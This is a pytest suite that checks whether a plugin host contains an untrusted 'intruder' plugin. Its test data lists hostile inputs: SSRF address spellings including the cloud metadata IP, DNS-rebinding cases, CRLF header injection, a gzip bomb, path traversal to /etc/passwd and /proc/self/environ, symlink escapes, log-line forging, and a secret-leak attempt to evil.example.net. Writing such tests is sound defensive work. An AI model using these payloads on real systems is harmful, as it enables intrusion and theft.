"""What an untrusted plugin tries, in a real host and in both isolations: every attempt ends in its
typed error, and after each the host and another plugin are well. One host lives through them all.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio

from loom_host.telemetry.logs import text_line
from loom_sdk import Event
from loom_sdk.errors import (
    ActionFailed,
    CapabilityError,
    DeadlineExceeded,
    InvalidArguments,
    LoomError,
    OutcomeUnknown,
    PermissionDenied,
    PluginCrashed,
    QuotaExceeded,
)

from .hosting import dead_letters, next_of, until
from .intruder_host import SECRET, THEIRS, Town, resolve_to, town
from .support import within
from .test_egress import moved

pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module", params=["thread", "process"])
async def here(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Town]:
    async with town(tmp_path_factory.mktemp("town"), request.param) as made:
        yield made


@pytest_asyncio.fixture(autouse=True, loop_scope="module")
async def _all_is_well_after_each(here: Town) -> AsyncIterator[None]:
    yield
    await here.is_well()


# ---- Host imports without a grant -----------------------------------------------------------

UNGRANTED = [
    ("publish", "query", "publish:query"),
    ("publish", "loom.plugin", "publish:loom.plugin"),
    ("publish", "audio.mic", "publish:audio.mic"),
    ("publish", "intruder.out.more", "publish:intruder.out.more"),
    ("publish", ">", "publish:>"),
    ("publish", "intruder.*", "publish:intruder.*"),
    ("invoke", "loom.tools", "invoke:loom.tools"),
    ("invoke", "t.store", "invoke:t.store"),
    ("invoke", "t.store@1.0.0", "invoke:t.store"),
    ("secret", "key", "secrets:key"),
    ("secret", "no such", "secrets:no such"),
    ("http", "http://127.0.0.1:9/", "network:http://127.0.0.1:9"),
    ("http", "https://evil.net/", "network:https://evil.net"),
    ("http", "http://127.0.0.1.evil.net/", "network:http://127.0.0.1.evil.net"),
]


@pytest.mark.parametrize(("what", "of", "permission"), UNGRANTED)
async def test_what_is_not_granted_is_denied(
    here: Town, what: str, of: str, permission: str
) -> None:
    before = here.host.audit.denied.get("intruder", 0)
    with pytest.raises(PermissionDenied, match="to allow it add to loom.toml") as caught:
        await here.attempt(what, of)
    assert (caught.value.plugin_id, caught.value.permission) == ("intruder", permission)
    assert here.host.audit.denied["intruder"] == before + 1


async def test_what_is_asked_for_and_not_granted_is_not_heard(here: Town) -> None:
    for topic in ("audio.mic", "transcript", "loom.host", "room"):
        await here.host.bus.publish(topic, Event("word"))
    await until(lambda: not here.host.busy())
    heard = await here.attempt("heard")
    assert "room" in heard
    assert set(heard) == {"room"}


# ---- Whose it is ----------------------------------------------------------------------------


async def test_a_source_cannot_be_spoofed(here: Town) -> None:
    async with here.host.bus.subscribe("intruder.out") as events:
        await here.attempt("publish", "intruder.out", "hostile", 4_000_000_000)
        event = await next_of(events)
    assert (event.source, event.topic) == ("intruder", "intruder.out")
    assert event.id != "id-of-mine"
    assert event.priority <= 100
    assert 0 <= event.confidence <= 1
    assert event.delivery_attempt == 1


async def test_an_idempotency_id_is_its_callers_own(here: Town) -> None:
    first = (await here.host.invoke("t.count", id="order-1")).output
    stolen = await here.attempt("invoke", "t.count", "order-1")
    assert stolen == first + 1
    assert (await here.host.invoke("t.count", id="order-1")).output == first
    here.neighbour_calls += 2


async def test_a_parent_call_cannot_be_made_up(here: Town) -> None:
    """The host knows whom it serves: a made up parent and 11 days of time change nothing."""
    answer = await here.attempt("invoke", "t.count", "someone-elses-call", 10**9)
    here.neighbour_calls += 1
    assert answer == here.neighbour_calls


async def test_a_plugin_that_waits_for_itself_is_told_at_once(here: Town) -> None:
    with within(100), pytest.raises(QuotaExceeded, match="intruder -> intruder") as caught:
        await here.attempt("invoke", "intruder.try", ' {"what": "heard"}')
    assert caught.value.quota == "concurrency"


@pytest.mark.parametrize(
    "key", ["diary", "../hostile/diary", "\0test/hostile\0diary", "kv\0test/hostile\0diary"]
)
async def test_anothers_storage_is_out_of_reach(here: Town, key: str) -> None:
    assert await here.attempt("get", key) is None
    await here.attempt("put", key, "overwritten")
    assert await here.attempt("get", key) == "overwritten"
    theirs = await here.host.invoke("t.store", {"key": "diary"})
    assert theirs.output == [False, "value", ["diary"]]
    assert await here.attempt("keys", "") == [key]
    await here.attempt("delete", key)
    assert await here.attempt("keys", "") == []


# ---- The network ----------------------------------------------------------------------------

ADDRESSES = [
    ("http://2130706433:{port}/", InvalidArguments),
    ("http://0x7f000001:{port}/", InvalidArguments),
    ("http://0x7f.0.0.1:{port}/", InvalidArguments),
    ("http://0177.0.0.1:{port}/", InvalidArguments),
    ("http://127.1:{port}/", InvalidArguments),
    ("http://127.0.0.1%00.example:{port}/", InvalidArguments),
    ("http://\uff11\uff12\uff17.0.0.1:{port}/", InvalidArguments),
    ("http://a.example@127.0.0.1:9/", InvalidArguments),
    ("http://a.example\\@127.0.0.1:9/", InvalidArguments),
    ("http://[::1%25lo]:{port}/", InvalidArguments),
    ("http://[::ffff:127.0.0.2]:{port}/", PermissionDenied),
    ("http://[::ffff:7f00:2]/", PermissionDenied),
    ("http://[64:ff9b::127.0.0.1]:{port}/", PermissionDenied),
    ("http://[::1]:{port}/", PermissionDenied),
    ("http://[::]:{port}/", PermissionDenied),
    ("http://0.0.0.0:{port}/", PermissionDenied),
    ("http://127.0.0.2:{port}/", PermissionDenied),
    ("http://localhost:{port}/", PermissionDenied),
    ("http://169.254.169.254/latest/", PermissionDenied),
    ("file:///etc/passwd", InvalidArguments),
    ("ftp://a.example/", InvalidArguments),
]


@pytest.mark.parametrize(("url", "error"), ADDRESSES)
async def test_no_other_spelling_of_an_address_gets_through(
    here: Town, url: str, error: type[LoomError]
) -> None:
    with pytest.raises(error):
        await here.attempt("http", url)
    assert here.server.requests == []


@pytest.mark.parametrize("address", ["127.0.0.1", "127.0.0.2", "10.0.0.1", "::1", "fe80::1"])
async def test_a_name_that_resolves_inward_is_denied(
    here: Town, monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    """127.0.0.1 has a grant, but for another port."""
    resolve_to(monkeypatch, address)
    with pytest.raises(PermissionDenied, match=r"rebind\.example"):
        await here.attempt("http", "http://rebind.example:9/")


@pytest.mark.parametrize(
    ("location", "error"),
    [
        ("http://127.0.0.1:9/", PermissionDenied),
        ("http://127.0.0.2:{port}/", PermissionDenied),
        ("http://localhost:{port}/", PermissionDenied),
        ("//[::ffff:127.0.0.2]/", PermissionDenied),
        ("http://inside.example/", PermissionDenied),
        ("http://2130706433/", ActionFailed),
        ("file:///etc/passwd", ActionFailed),
        ("/again", ActionFailed),
    ],
)
async def test_redirects_lead_nowhere_else(
    here: Town, monkeypatch: pytest.MonkeyPatch, location: str, error: type[LoomError]
) -> None:
    resolve_to(monkeypatch, "127.0.0.1")
    monkeypatch.setattr(
        here.server, "answer", moved(location.replace("{port}", str(here.server.port)))
    )
    with pytest.raises(error):
        await here.attempt("http", "{url}/")
    here.server.requests.clear()


async def test_a_grant_to_read_is_none_to_write(here: Town) -> None:
    assert await here.attempt("http", "{url}/") == [200, "ok"]
    with pytest.raises(PermissionDenied, match="POST"):
        await here.attempt("http", "{url}/", "POST", 10)
    with pytest.raises(InvalidArguments, match="use one of"):
        await here.attempt("http", "{url}/", "CONNECT")
    here.server.requests.clear()


@pytest.mark.parametrize("value", ["x\r\nX-Evil: 1", "x\nGET / HTTP/1.1", "\0"])
async def test_headers_cannot_be_split(here: Town, value: str) -> None:
    with pytest.raises(InvalidArguments, match="headers"):
        await here.attempt("header", "{url}/", value)
    assert here.server.requests == []


async def test_too_large_answers_and_requests(here: Town, monkeypatch: pytest.MonkeyPatch) -> None:
    import gzip

    bomb = gzip.compress(bytes(64 * 1024**2))
    head = f"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: {len(bomb)}\r\n\r\n"
    monkeypatch.setattr(here.server, "answer", head.encode() + bomb)
    with pytest.raises(QuotaExceeded) as caught:
        await here.attempt("http", "{url}/")
    assert caught.value.quota == "http_response_bytes"
    here.server.requests.clear()


async def test_a_server_that_never_answers_costs_the_deadline(
    here: Town, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(here.server, "pause_s", 3.0)
    with within(600), pytest.raises((DeadlineExceeded, ActionFailed)):
        await here.attempt("http", "{url}/")
    await asyncio.sleep(0)
    here.server.requests.clear()


# ---- Secrets on their way out ---------------------------------------------------------------


def told(here: Town) -> str:
    """All that the host keeps of what the intruder said."""
    handle = here.host.plugins["intruder"]
    ring = here.host.telemetry.logs
    kept = [] if ring is None else ring.recent("intruder")
    return "\n".join([handle.explain(), *handle.log_lines, *map(str, kept)])


@pytest.mark.parametrize("what", ["leak_error", "leak_trace", "leak_log"])
async def test_a_secret_shows_in_no_error_and_no_log(
    here: Town, what: str, capfd: pytest.CaptureFixture[str]
) -> None:
    try:
        await here.attempt(what, "mine")
    except ActionFailed as error:
        assert "[redacted]" in error.message
        assert SECRET not in f"{error} {error.args} {error.data}"
    else:
        assert "[redacted]" in told(here)
    assert SECRET not in told(here)
    assert SECRET not in capfd.readouterr().err


async def test_a_secret_in_a_url_shows_in_no_error(here: Town) -> None:
    assert await here.attempt("leak_url", "{url}/", "mine") == 200
    assert SECRET in here.server.requests[0]
    here.server.requests.clear()
    with pytest.raises(PermissionDenied) as denied:
        await here.attempt("leak_url", "http://evil.example.net/", "mine")
    with pytest.raises(ActionFailed) as failed:
        await here.attempt("leak_url", "http://localhost:1/", "mine")
    with pytest.raises(PermissionDenied):
        await here.attempt("leak_topic", "", "mine")
    assert SECRET not in f"{denied.value} {failed.value} {here.host.audit.refusals}"


async def test_a_secret_in_a_failed_event_shows_in_no_dead_letter(here: Town) -> None:
    async with dead_letters(here.host.bus) as letters:
        await here.host.bus.publish("room", Event("word", b"leak"))
        letter = await next_of(letters)
    assert "the key is [redacted]" in str(letter.metadata)
    assert SECRET not in f"{letter.metadata} {letter.payload!r}"


async def test_anothers_secret_is_denied_and_not_named_by_value(here: Town) -> None:
    with pytest.raises(PermissionDenied) as caught:
        await here.attempt("leak_error", "key")
    assert THEIRS not in caught.value.message


async def test_a_log_line_cannot_forge_another(here: Town) -> None:
    await here.attempt("log", "fine\n00:00:00.000 ERROR  host: \x1b[2Jall is lost", "no-such-level")
    line = text_line(
        {"time": "2026-01-01T00:00:00.000", "level": "info", "logger": "x", "plugin": "intruder",
         "message": here.host.plugins["intruder"].log_lines[-1]}
    )  # fmt: skip
    assert "\n" not in line
    assert "\x1b" not in line
    await here.attempt("span", "inner", "hostile")


# ---- What is no value -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("output", "size"), [("{", 1), ("nan?", 1), ("\ud7ff'", 1), ("[", 20_000), ('{"a":', 12_000)]
)
async def test_items_that_are_no_json(here: Town, output: str, size: int) -> None:
    with pytest.raises(LoomError) as caught:
        await here.attempt("emit", output, "", size)
    assert isinstance(caught.value, CapabilityError | QuotaExceeded | PluginCrashed)


@pytest.mark.parametrize("size", [1000, 30_000])
async def test_an_answer_nested_too_deeply(here: Town, size: int) -> None:
    try:
        await here.attempt("deep", size=size)
    except ActionFailed as error:
        assert "not JSON" in error.message


@pytest.mark.parametrize("arguments", ["[]", "{", "[" * 30_000, '{"a":' * 10_000, "\x00"])
async def test_arguments_of_a_nested_call_that_are_no_object(here: Town, arguments: str) -> None:
    with pytest.raises(InvalidArguments):
        await here.attempt("invoke", "t.count", f" {arguments}")


async def test_arguments_that_break_anothers_schema(here: Town) -> None:
    with pytest.raises(InvalidArguments):
        await here.attempt("invoke", "t.count", ' {"x": 1}')


# ---- Quotas ---------------------------------------------------------------------------------


@pytest.mark.parametrize("what", ["spin", "sleep"])
async def test_the_deadline(here: Town, what: str) -> None:
    with within(600), pytest.raises(DeadlineExceeded):
        await here.attempt(what)


async def test_a_cancelled_call_ends_in_the_guest(here: Town) -> None:
    task = asyncio.create_task(here.attempt("spin"))
    await asyncio.sleep(0.1)
    task.cancel()
    with within(0), pytest.raises(asyncio.CancelledError):
        await task


@pytest.mark.parametrize(
    ("what", "of", "size", "quota"),
    [
        ("bomb", "", 0, "memory"),
        ("answer", "", 70_000, "output_bytes"),
        ("answer", "", 4_000_000, "output_bytes"),
        ("emit", '"x"', 0, ""),
        ("emit_flood", "", 0, "output_bytes"),
        ("put", "k", 1001, "storage_bytes"),
        ("put", "k" * 1001, 1, "storage_bytes"),
        ("write", "/desk/big", 300_000, "folder_bytes"),
    ],
)
async def test_quotas(here: Town, what: str, of: str, size: int, quota: str) -> None:
    hits = here.host.plugins["intruder"].counters.quota_hits
    if not quota:
        await here.attempt(what, of)
        return
    with pytest.raises(QuotaExceeded) as caught:
        await here.attempt(what, of, size=size)
    assert (caught.value.plugin_id, caught.value.quota) == ("test/intruder", quota)
    assert caught.value.used >= caught.value.limit
    assert here.host.plugins["intruder"].counters.quota_hits > hits
    for path in (here.folder / "desk").iterdir():
        path.unlink()


async def test_log_lines_over_their_quota_are_dropped(here: Town) -> None:
    handle = here.host.plugins["intruder"]
    hits = handle.counters.quota_hits
    for _ in range(12):
        await here.attempt("log", "spam ", "info", 1000)
    assert handle.counters.quota_hits > hits
    assert sum(len(line) for line in handle.log_lines) <= 20_000


async def test_a_second_call_waits_its_turn_within_its_deadline(here: Town) -> None:
    busy = asyncio.create_task(here.attempt("sleep"))
    await asyncio.sleep(0.02)
    arguments = {"what": "heard", "of": "", "text": "", "size": 0}
    with pytest.raises(QuotaExceeded) as caught:
        await here.host.invoke("intruder.try", arguments, timeout_ms=100)
    assert caught.value.quota == "concurrency"
    with pytest.raises(DeadlineExceeded):
        await busy


@pytest.mark.parametrize("what", ["recurse", "exit"])
async def test_what_ends_the_guest_is_its_own_end(here: Town, what: str) -> None:
    with pytest.raises((OutcomeUnknown, ActionFailed, DeadlineExceeded)):
        await here.attempt(what)


# ---- Files ----------------------------------------------------------------------------------

OUTSIDE = [
    ("read", "/etc/passwd", ""),
    ("read", "/library/../outside", ""),
    ("read", "/library/../../../../../../etc/passwd", ""),
    ("read", "/library/out", ""),
    ("read", "/library/root/etc/passwd", ""),
    ("read", "/attic/x", ""),
    ("read", "outside", ""),
    ("read", "/proc/self/environ", ""),
    ("list", "/", ""),
    ("list", "/library/..", ""),
    ("list", "/library/root", ""),
    ("list", "/attic", ""),
    ("write", "/library/new", "x"),
    ("write", "/library/book", "x"),
    ("write", "/library/out", "x"),
    ("write", "/desk/../outside", "x"),
    ("truncate", "/library/book", ""),
    ("remove", "/library/book", ""),
    ("remove", "/desk/../outside", ""),
    ("mkdir", "/library/new", ""),
    ("mkdir", "/attic/new", ""),
    ("rename", "/library/book", "/desk/book"),
    ("rename", "/desk/mine", "/library/mine"),
    ("rename", "/desk/mine", "/desk/../mine"),
    ("symlink", "/desk/link", "/etc/passwd"),
    ("symlink", "/library/link", "book"),
    ("link", "/desk/link", "/library/book"),
    ("link", "/library/link", "/desk/mine"),
]


@pytest.mark.parametrize(("what", "of", "text"), OUTSIDE)
async def test_nothing_leads_out_of_a_folder(here: Town, what: str, of: str, text: str) -> None:
    mine = here.folder / "desk" / "mine"
    assert await here.attempt("write", "/desk/mine", "mine") == 4
    with pytest.raises(ActionFailed, match=r"Error: \[Errno"):
        await here.attempt(what, of, text)
    assert mine.read_text() == "mine"
    mine.unlink()
    assert list((here.folder / "desk").iterdir()) == []
    assert (here.folder / "library" / "book").read_text() == "words"
    assert (here.folder / "outside").read_text() == "private"
    assert len(list((here.folder / "library").iterdir())) == 3


async def test_a_link_that_the_guest_made_leads_nowhere(here: Town) -> None:
    link = here.folder / "desk" / "link"
    try:
        await here.attempt("symlink", "/desk/link", "../outside")
    except ActionFailed:
        assert here.isolation == "process"
        link.symlink_to("../outside")
    for what in ("read", "write", "truncate"):
        with pytest.raises(ActionFailed, match=r"Error: \[Errno"):
            await here.attempt(what, "/desk/link", "x")
    link.unlink()
    assert (here.folder / "outside").read_text() == "private"


async def test_what_is_granted_works(here: Town) -> None:
    assert await here.attempt("read", "/library/book") == "words"
    assert await here.attempt("list", "/library") == ["book", "out", "root"]
    assert await here.attempt("write", "/desk/a", "hello") == 5
    await here.attempt("rename", "/desk/a", "/desk/b")
    assert (here.folder / "desk" / "b").read_text() == "hello"
    await here.attempt("truncate", "/desk/b", size=2)
    assert await here.attempt("read", "/desk/b") == "he"
    await here.attempt("remove", "/desk/b")
    assert await here.attempt("list", "/desk") == []


async def test_a_folder_is_filled_to_its_limit_and_emptied(here: Town) -> None:
    desk = here.folder / "desk"
    with within(600), pytest.raises(QuotaExceeded) as caught:
        await here.attempt("fill", "/desk", size=500)
    assert caught.value.quota in ("folder_bytes", "folder_entries")
    for path in desk.iterdir():
        path.unlink()
    (desk / "big").write_bytes(bytes(150_000))
    with pytest.raises((QuotaExceeded, ActionFailed), match="folder desk|I/O error"):
        await here.attempt("write", "/desk/big", "x")
    assert here.isolation == "thread" or (desk / "big").stat().st_size == 150_000
    await here.attempt("remove", "/desk/big")
    assert await here.attempt("write", "/desk/small", "x") == 1
    (desk / "big").write_bytes(bytes(250_000))
    with pytest.raises(QuotaExceeded, match="by hand"):
        await here.attempt("read", "/library/book")
    for path in desk.iterdir():
        path.unlink()
